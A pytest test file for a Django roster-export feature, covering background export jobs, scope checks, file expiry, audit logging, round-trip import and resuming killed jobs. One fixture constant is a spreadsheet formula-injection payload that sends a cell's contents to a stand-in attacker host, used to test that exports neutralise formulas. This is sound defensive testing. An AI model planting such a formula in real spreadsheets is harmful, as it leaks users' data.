"""A roster export larger than a commune runs as a background job (issue 15).

From the issue: a small export stays in the request; a big one becomes a job, the officer sees its page and
gets a download link when done; the file is private to the officer who asked, re-checked against their
scope at download, expires (a sweep deletes it), every download is audited without personal data; the
file re-imports (round trip) and holds no live formula; a killed job resumes without a duplicate row.
"""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.test import Client

from partycard.accounts.models import Role, User
from partycard.audit.models import AuditEvent
from partycard.audit.services import audit_verify
from partycard.cards.models import Card
from partycard.core import clock
from partycard.core.scope import OutOfScope
from partycard.jobs.models import Job, JobChunk, JobFile
from partycard.jobs.runner import job_run
from partycard.jobs.services import ChunkResult, job_files_expire, kind_of
from partycard.jobs.storage import job_files_dir, scratch_root
from partycard.jobs.sweeper import sweep_once
from partycard.registry import services
from partycard.registry.importing import import_roster
from partycard.registry.jobs import EXPORT, start_export
from partycard.registry.models import Member
from partycard.registry.roster import COLUMNS
from tests.job_runner import job_runner, kill_after_chunks

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"Bấm vào đây")'
MEMBERS = 7
FIELDS = [
    "organisation__code", "full_name", "gender", "date_of_birth", "citizen_id", "status", "date_admitted",
    "date_official", "ethnicity", "home_town", "occupation",
]  # fmt: skip


@pytest.fixture
def small_limits(settings: Any, tmp_path: Path) -> Path:
    """Exports of more than 3 members go to the worker, in chunks of 2; job files under ``tmp_path``."""
    settings.PARTYCARD = {
        **settings.PARTYCARD,
        "EXPORT_INLINE_MEMBERS": 3,
        "EXPORT_CHUNK_MEMBERS": 2,
        "JOB_FILES_DIR": tmp_path / "job-files",
    }
    return tmp_path / "job-files"


@pytest.fixture
def roster(tree: Any, make_member: Any) -> list[Member]:
    """Seven members of Hà Nội over two cells, one with a formula for a name, one with a formula-like job."""
    members = []
    for i in range(MEMBERS):
        members.append(
            make_member(
                org=tree.cell_a if i % 2 else tree.cell_b,
                full_name=HYPERLINK if i == 3 else f"Nguyễn Văn {chr(ord('A') + i)}",
                occupation="-" if i == 4 else "Giáo viên",
                citizen_id=f"00108001{i:04d}",
            )
        )
    make_member(org=tree.hue_cell, full_name="Người Huế", citizen_id="001080099999")
    return members


def _officer(name: str, org: Any, role: str = Role.COMMITTEE_OFFICER) -> User:
    return User.objects.create_user(name, password="mat-khau-dai-1", organisation=org, role=role)


def _client(login: Any, user: User) -> Client:
    client = Client()
    login(client, user)
    return client


def _body(response: Any) -> bytes:
    return b"".join(response.streaming_content)


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))


def _citizen_ids(content: bytes) -> list[str]:
    sheet = openpyxl.load_workbook(io.BytesIO(content), read_only=True).worksheets[0]
    column = next(i for i, c in enumerate(COLUMNS) if c.field == "citizen_id")
    return [row[column] for row in sheet.iter_rows(min_row=2, values_only=True)]


def _start(login: Any, user: User, code: str) -> tuple[Client, Job]:
    client = _client(login, user)
    response = client.post("/dang-vien/xuat/", {"organisation": code})
    job = Job.objects.get(kind=EXPORT, actor=user)
    assert response.status_code == 302 and response["Location"] == f"/tac-vu/{job.pk}/"
    return client, job


pytestmark = pytest.mark.django_db


def test_a_commune_sized_export_stays_in_the_request(
    tree: Any, roster: list[Member], login: Any, settings: Any, tmp_path: Path
) -> None:
    settings.PARTYCARD = {**settings.PARTYCARD, "JOB_FILES_DIR": tmp_path / "job-files"}
    client = _client(login, _officer("tinh", tree.hanoi))
    response = client.get("/dang-vien/xuat/", {"organisation": "HN"})
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="dang-vien-HN.xlsx"'
    assert sorted(_citizen_ids(_body(response))) == sorted(m.citizen_id for m in roster)
    assert not Job.objects.exists()
    assert not any(scratch_root().iterdir())  # the request's temporary file is gone


def test_a_bigger_export_is_a_job_whose_file_downloads_and_imports_back(
    tree: Any,
    roster: list[Member],
    login: Any,
    small_limits: Path,
    settings: Any,
    django_capture_on_commit_callbacks: Any,
) -> None:
    officer = _officer("tinh", tree.hanoi)
    client = _client(login, officer)
    page = client.get("/dang-vien/xuat/", {"organisation": "HN"})
    assert page.status_code == 200 and page["Content-Type"].startswith("text/html")
    assert 'name="organisation" value="HN"' in page.content.decode()
    assert not Job.objects.exists()  # nothing starts before the officer submits

    client, job = _start(login, officer, "HN")
    assert (job.total, job.chunk_count) == (MEMBERS, 5)  # ranges of 2, 2, 2, 1, then the seal
    detail = client.get(f"/tac-vu/{job.pk}/").content.decode()
    assert f"/tac-vu/{job.pk}/tai-ve/" not in detail  # not done yet: no link

    with django_capture_on_commit_callbacks(execute=True):  # the seal's commit removes the parts
        job = job_run(job.pk)
    assert (job.status, job.succeeded, job.failed) == (Job.Status.DONE, MEMBERS, 0)
    detail = client.get(f"/tac-vu/{job.pk}/").content.decode()
    assert f"/tac-vu/{job.pk}/tai-ve/" in detail
    assert not (scratch_root() / f"job-{job.pk}").exists()  # the parts went with the seal
    (stored,) = small_limits.glob("job-*.xlsx")  # in the private directory, not under MEDIA_ROOT
    assert not stored.resolve().is_relative_to(Path(settings.MEDIA_ROOT).resolve())

    response = client.get(f"/tac-vu/{job.pk}/tai-ve/")
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="dang-vien-HN.xlsx"'
    assert response["Cache-Control"] == "private, no-store"
    content = _body(response)
    # Every Hà Nội member once, in cell then name order; nobody of Huế.
    ids = _citizen_ids(content)
    assert sorted(ids) == sorted(m.citizen_id for m in roster) and len(set(ids)) == MEMBERS
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [row[0] for row in book.worksheets[0].iter_rows(min_row=2, values_only=True)]
    assert cells == sorted(cells)
    # No live formula: no <f> element; the formula-like texts are text cells with the quote prefix.
    xml = _sheet_xml(content)
    assert "<f>" not in xml and "<f " not in xml
    name = next(c for c in book.worksheets[0]["B"] if c.value == HYPERLINK)
    assert name.data_type == "s" and name.quotePrefix

    # The download is audited: who, which job, size and digest; no name, no citizen ID.
    (event,) = AuditEvent.objects.filter(action="job.file_download")
    assert event.actor_id == officer.pk and event.changes["job"] == job.pk
    logged = str(event.changes) + event.object_id
    assert not any(m.citizen_id in logged or m.full_name in logged for m in roster)
    assert AuditEvent.objects.filter(action="export", object_id=str(tree.hanoi.pk)).exists()

    # Round trip: the file imports back as the same members.
    before = sorted(Member.objects.filter(organisation__path__startswith="TW.HN.").values_list(*FIELDS))
    path = small_limits / "back.xlsx"
    path.write_bytes(content)
    Card.objects.all().delete()
    Member.objects.filter(organisation__path__startswith="TW.HN.").delete()
    services.organisations_recount()
    result = import_roster(path, actor=None)
    assert result.ok, result.problems
    after = Member.objects.filter(organisation__path__startswith="TW.HN.").values_list(*FIELDS)
    assert sorted(after) == before


def test_only_the_officer_who_asked_downloads_while_in_scope(
    tree: Any, roster: list[Member], login: Any, small_limits: Path
) -> None:
    officer = _officer("tinh", tree.hanoi)
    _, job = _start(login, officer, "HN")
    job_run(job.pk)
    url = f"/tac-vu/{job.pk}/tai-ve/"
    colleague = _officer("tinh-2", tree.hanoi)  # the same scope, but not the one who asked
    huế = _officer("hue", tree.hue)
    admin = _officer("quan-tri", tree.centre, Role.CENTRAL_ADMIN)  # sees every job, not this file
    for other in (colleague, huế, admin):
        response = _client(login, other).get(url)
        assert response.status_code == 404, other.username
    page = _client(login, colleague).get(f"/tac-vu/{job.pk}/").content.decode()
    assert url not in page
    assert _client(login, officer).get(url).status_code == 200

    # The scope is checked at the download: the officer moved to Huế gets a 404 for Hà Nội's file.
    User.objects.filter(pk=officer.pk).update(organisation=tree.hue)
    officer.refresh_from_db()
    assert _client(login, officer).get(url).status_code == 404
    assert AuditEvent.objects.filter(action="job.file_download").count() == 1  # only the one allowed


def test_a_file_whose_organisation_moved_out_of_the_scope_is_no_longer_downloadable(
    tree: Any, roster: list[Member], login: Any, small_limits: Path
) -> None:
    """The scope is checked at each download against the exported organisation where it is now: the school
    exported by Ba Đình's officer, moved to Huế since, takes its file with it (the same 404 as a missing
    one); so does a change of the officer's role to one that may not export."""
    officer = _officer("phuong", tree.ba_dinh)
    client, job = _start(login, officer, "HN-BD-01")
    job_run(job.pk)
    url = f"/tac-vu/{job.pk}/tai-ve/"
    assert client.get(url).status_code == 200
    assert url in client.get(f"/tac-vu/{job.pk}/").content.decode()

    services.organisation_move(actor=None, organisation=tree.school, new_parent=tree.thuan_hoa)
    assert client.get(url).status_code == 404
    assert url not in client.get(f"/tac-vu/{job.pk}/").content.decode()
    services.organisation_move(actor=None, organisation=tree.school, new_parent=tree.ba_dinh)
    assert client.get(url).status_code == 200  # back in the subtree: the file is theirs again

    User.objects.filter(pk=officer.pk).update(role=Role.MEMBER)
    assert client.get(url).status_code == 404
    assert AuditEvent.objects.filter(action="job.file_download").count() == 2  # only the two allowed


def test_an_expired_file_is_refused_then_deleted_by_the_sweep(
    tree: Any, roster: list[Member], login: Any, small_limits: Path, django_capture_on_commit_callbacks: Any
) -> None:
    officer = _officer("tinh", tree.hanoi)
    client, job = _start(login, officer, "HN")
    job_run(job.pk)
    file = JobFile.objects.get(job=job)
    stored = job_files_dir() / file.stored
    assert stored.exists() and (file.expires_at - file.created_at).total_seconds() == 24 * 3600
    assert job_files_expire(at=clock.now()) == []  # not yet

    JobFile.objects.filter(pk=file.pk).update(expires_at=clock.now())  # its time is up; not swept yet
    assert client.get(f"/tac-vu/{job.pk}/tai-ve/").status_code == 404
    assert stored.exists()
    with django_capture_on_commit_callbacks(execute=True):  # the file goes once its row says so
        assert sweep_once() == []  # the worker's periodic sweep (no job to reclaim) …
    assert not stored.exists()  # … deletes the file
    file.refresh_from_db()
    assert file.deleted_at is not None
    assert AuditEvent.objects.filter(action="job.file_expire", object_id=str(file.pk)).exists()
    assert client.get(f"/tac-vu/{job.pk}/tai-ve/").status_code == 404
    page = client.get(f"/tac-vu/{job.pk}/").content.decode()
    assert 'id="job-download"' in page and f"/tac-vu/{job.pk}/tai-ve/" not in page


def test_starting_an_export_outside_the_scope_is_refused(
    tree: Any, roster: list[Member], login: Any, small_limits: Path
) -> None:
    officer = _officer("tinh", tree.hanoi)
    with pytest.raises(OutOfScope):
        start_export(actor=officer, root=tree.hue, enqueue=False)
    with pytest.raises(OutOfScope):
        start_export(actor=None, root=tree.hanoi, enqueue=False)  # a web export always has an officer
    client = _client(login, officer)
    assert client.post("/dang-vien/xuat/", {"organisation": "HUE"}).status_code == 404
    assert client.get("/dang-vien/xuat/", {"organisation": "HUE-TH"}).status_code == 404
    secretary = _officer("bi-thu", tree.cell_a, Role.CELL_SECRETARY)
    assert _client(login, secretary).post("/dang-vien/xuat/", {"organisation": "HN"}).status_code == 404
    assert not Job.objects.filter(kind=EXPORT).exists()


def test_each_chunk_checks_the_scope_again(
    tree: Any, roster: list[Member], login: Any, small_limits: Path
) -> None:
    """An officer moved out of the organisation while their export runs: the job stops, no file."""
    officer = _officer("tinh", tree.hanoi)
    _, job = _start(login, officer, "HN")
    job_run(job.pk, stop_after=2)
    User.objects.filter(pk=officer.pk).update(organisation=tree.hue)
    with pytest.raises(OutOfScope):
        job_run(job.pk)
    job.refresh_from_db()
    assert job.status == Job.Status.FAILED and not JobFile.objects.filter(job=job).exists()


def test_a_stopped_then_failing_export_resumes_without_a_duplicate_row(
    tree: Any, roster: list[Member], login: Any, small_limits: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Stopped after two chunks, then a chunk dies after writing its part: run again, every member once,
    including one transferred meanwhile from a cell whose chunk was done to one whose chunk was not."""
    officer = _officer("tinh", tree.hanoi)
    client, job = _start(login, officer, "HN")
    job_run(job.pk, stop_after=2)
    kind = kind_of(job)
    run_chunk = kind.run_chunk
    written: list[int] = []

    def dies_after_writing(job: Job, index: int) -> ChunkResult:
        run_chunk(job, index)
        written.append(index)
        raise RuntimeError("the worker died mid-chunk")

    with monkeypatch.context() as patch:
        patch.setattr(kind, "run_chunk", dies_after_writing)
        with pytest.raises(RuntimeError):
            job_run(job.pk)
    assert written == [2] and (scratch_root() / f"job-{job.pk}" / "part-00002").exists()
    failed = Job.objects.get(pk=job.pk)
    assert (failed.status, failed.chunks_done, failed.succeeded) == (Job.Status.FAILED, 2, 4)

    moved = roster[0]  # in chunk 0, done: now in the other cell, which sorts elsewhere in the file
    services.member_transfer(actor=None, member=moved, to_cell=tree.cell_a, reason="chuyển sinh hoạt")
    done = job_run(job.pk)
    assert (done.status, done.succeeded) == (Job.Status.DONE, MEMBERS)
    assert JobChunk.objects.filter(job=job).count() == job.chunk_count
    content = _body(client.get(f"/tac-vu/{job.pk}/tai-ve/"))
    ids = _citizen_ids(content)
    assert len(ids) == MEMBERS and sorted(ids) == sorted(m.citizen_id for m in roster)
    assert audit_verify().ok


def test_the_command_line_export_acting_as_an_officer_stays_in_scope(
    tree: Any, roster: list[Member], tmp_path: Path
) -> None:
    officer = _officer("tinh", tree.hanoi)
    out = tmp_path / "hue.xlsx"
    with pytest.raises(CommandError, match="no organisation has code 'HUE'"):
        call_command("export", "--org", "HUE", "-o", str(out), "--as", "tinh", "--no-progress")
    assert not out.exists()
    options = ["--as", "tinh", "--no-progress"]
    call_command("export", "--org", "HN", "-o", str(out), *options, stdout=io.StringIO())
    assert sorted(_citizen_ids(out.read_bytes())) == sorted(m.citizen_id for m in roster)
    event = AuditEvent.objects.filter(action="export").latest("seq")
    assert event.actor_id == officer.pk


@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)
def test_an_export_runner_killed_mid_job_is_resumed_and_writes_each_member_once(
    tree: Any, roster: list[Member], login: Any, small_limits: Path
) -> None:
    """SIGKILL of ``partycard job run`` between chunks; run again: the file holds every member once."""
    officer = _officer("tinh", tree.hanoi)
    client, job = _start(login, officer, "HN")
    files = {"PARTYCARD_JOB_FILES_DIR": str(small_limits)}
    runner = job_runner(job, pause="0.3", env=files)
    kill_after_chunks(job, runner)
    partial = Job.objects.get(pk=job.pk)
    assert partial.status == Job.Status.RUNNING and 2 <= partial.chunks_done < partial.chunk_count
    assert not JobFile.objects.filter(job=job).exists()

    resumed = job_runner(job, pause="0", env=files)
    out, err = resumed.communicate(timeout=120)
    assert resumed.returncode == 0, err
    assert f"Job #{job.pk} done: {MEMBERS} ok, 0 failed." in out
    ids = _citizen_ids(_body(client.get(f"/tac-vu/{job.pk}/tai-ve/")))
    assert len(ids) == MEMBERS and sorted(ids) == sorted(m.citizen_id for m in roster)


def test_the_sweep_removes_scratch_left_behind(
    tree: Any, roster: list[Member], login: Any, small_limits: Path
) -> None:
    """Parts of a job that is over, and a request's temporary file left by a crash, once a day old."""
    officer = _officer("tinh", tree.hanoi)
    _, job = _start(login, officer, "HN")
    job_run(job.pk, stop_after=1)
    parts = scratch_root() / f"job-{job.pk}"
    stray = scratch_root() / "tmpabc.xlsx"
    stray.write_bytes(b"x")
    job_files_expire(at=clock.now())
    assert parts.exists() and stray.exists()  # a running job's parts, a fresh file: kept
    Job.objects.filter(pk=job.pk).update(status=Job.Status.DONE)
    job_files_expire(at=clock.now() + dt.timedelta(days=1, seconds=1))
    assert not parts.exists() and not stray.exists()
